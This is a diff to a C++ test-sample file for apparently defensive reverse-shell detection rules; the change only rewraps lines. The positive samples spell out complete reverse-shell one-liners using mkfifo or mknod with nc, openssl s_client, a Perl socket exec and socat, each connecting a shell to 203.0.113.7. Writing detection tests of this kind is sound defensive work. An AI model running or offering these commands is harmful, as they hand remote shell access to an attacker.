@@ -334,11 +334,13 @@ RuleSampleSet MkfifoSamples() {
       "Mamori_RevShell_Mkfifo_Pipe",
       "reverse_shells",
       {
-          {"mkfifo_sh_nc", Lines({"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|" "nc 203.0.113.7 4444 >/tmp/f"})},
+          {"mkfifo_sh_nc",
+           Lines({"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|" "nc 203.0.113.7 4444 >/tmp/f"})},
           {"mknod_sh_nc",
            Lines({"mknod /tmp/backpipe p; /bin/sh 0</tmp/backpipe |" " nc 203.0.113.7 4444 1>/tmp/backpipe"})},
           {"mkfifo_openssl",
-           Lines({"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 |" " openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"})},
+           Lines({"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 |"
+                  " openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"})},
       },
       {
           // FIFOs used for logs and progress: no shell piped to the network.
@@ -391,7 +393,8 @@ RuleSampleSet PerlSocketSamples() {
       "reverse_shells",
       {
           {"perl_socket_exec",
-           Lines({"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+           Lines({"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;"
+                  "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                   "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&" "S\");open(STDOUT,\">&" "S\");"
                   "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"})},
           {"perl_io_socket",
@@ -417,7 +420,8 @@ RuleSampleSet SocatSamples() {
       "Mamori_RevShell_Socat_Exec",
       "reverse_shells",
       {
-          {"socat_exec_pty_tcp", Lines({"socat ex" "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"})},
+          {"socat_exec_pty_tcp",
+           Lines({"socat ex" "ec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"})},
           {"socat_tcp_exec_sh", Lines({"socat TCP4:203.0.113.7:4444 " "EXEC:/bin/sh"})},
       },
       {
